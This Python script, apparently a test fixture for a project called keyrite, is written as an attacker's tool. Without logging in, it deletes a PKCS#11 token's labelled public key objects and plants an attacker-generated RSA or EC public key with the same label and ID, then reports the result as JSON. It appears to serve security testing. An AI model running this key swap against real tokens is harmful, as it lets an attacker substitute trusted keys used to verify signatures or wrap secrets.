#!/usr/bin/python3
"""Swap a key's public key object without logging in, as anyone on the host can.

An attacker's tool for keyrite's tests, written with PyKCS11 (Debian's python3-pykcs11); it
shares no code with keyrite. In a read-write session that never calls C_Login it destroys every
public key object labelled KEY_LABEL that the session sees, then creates a public token object
of that label holding a public key of the attacker's own (made here by `cryptography`), with
the CKA_ID KEY_ID_HEX or, without it, the CKA_ID of the first object destroyed:

    swap_public_key.py MODULE TOKEN_LABEL KEY_LABEL rsa-3072|ec-p256 [KEY_ID_HEX]

It prints JSON: how many objects were found and destroyed, the errors, and the SHA-256 of the
attacker's SubjectPublicKeyInfo.
"""
import hashlib
import json
import sys

import PyKCS11
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from PyKCS11.LowLevel import (
    CKA_CLASS, CKA_EC_PARAMS, CKA_EC_POINT, CKA_ID, CKA_KEY_TYPE, CKA_LABEL, CKA_MODULUS,
    CKA_PRIVATE, CKA_PUBLIC_EXPONENT, CKA_TOKEN, CKA_VERIFY, CKA_WRAP, CKF_RW_SESSION,
    CKF_SERIAL_SESSION, CKK_EC, CKK_RSA, CKO_PUBLIC_KEY,
)

P256 = bytes.fromhex("06082a8648ce3d030107")


def main():
    module, token, label, kind = sys.argv[1:5]
    lib = PyKCS11.PyKCS11Lib()
    lib.load(module)
    slots = [s for s in lib.getSlotList(tokenPresent=True)
             if lib.getTokenInfo(s).label.strip() == token]
    if len(slots) != 1:
        sys.exit(f"expected one token labelled {token!r}, found {len(slots)}")
    session = lib.openSession(slots[0], CKF_SERIAL_SESSION | CKF_RW_SESSION)
    found = session.findObjects([(CKA_CLASS, CKO_PUBLIC_KEY), (CKA_LABEL, label)])
    key_id = bytes.fromhex(sys.argv[5]) if len(sys.argv) > 5 else None
    destroyed, errors = 0, []
    for obj in found:
        if key_id is None:
            key_id = bytes(session.getAttributeValue(obj, [CKA_ID])[0])
        try:
            session.destroyObject(obj)
            destroyed += 1
        except PyKCS11.PyKCS11Error as e:
            errors.append(str(e))
    common = [(CKA_CLASS, CKO_PUBLIC_KEY), (CKA_TOKEN, True), (CKA_PRIVATE, False),
              (CKA_LABEL, label), (CKA_ID, key_id or b"")]
    if kind == "rsa-3072":
        key = rsa.generate_private_key(65537, 3072).public_key()
        n = key.public_numbers().n
        template = common + [(CKA_KEY_TYPE, CKK_RSA), (CKA_WRAP, True),
                             (CKA_MODULUS, n.to_bytes(384, "big")),
                             (CKA_PUBLIC_EXPONENT, bytes([1, 0, 1]))]
    elif kind == "ec-p256":
        key = ec.generate_private_key(ec.SECP256R1()).public_key()
        point = key.public_bytes(serialization.Encoding.X962,
                                 serialization.PublicFormat.UncompressedPoint)
        template = common + [(CKA_KEY_TYPE, CKK_EC), (CKA_VERIFY, True), (CKA_EC_PARAMS, P256),
                             (CKA_EC_POINT, bytes([0x04, len(point)]) + point)]
    else:
        sys.exit(__doc__)
    created, create_error = True, None
    try:
        session.createObject(template)
    except PyKCS11.PyKCS11Error as e:
        created, create_error = False, str(e)
    spki = key.public_bytes(serialization.Encoding.DER,
                            serialization.PublicFormat.SubjectPublicKeyInfo)
    print(json.dumps({
        "found": len(found), "destroyed": destroyed, "destroy_errors": errors,
        "created": created, "create_error": create_error,
        "attacker_spki_sha256": hashlib.sha256(spki).hexdigest(),
    }, sort_keys=True))


if __name__ == "__main__":
    main()
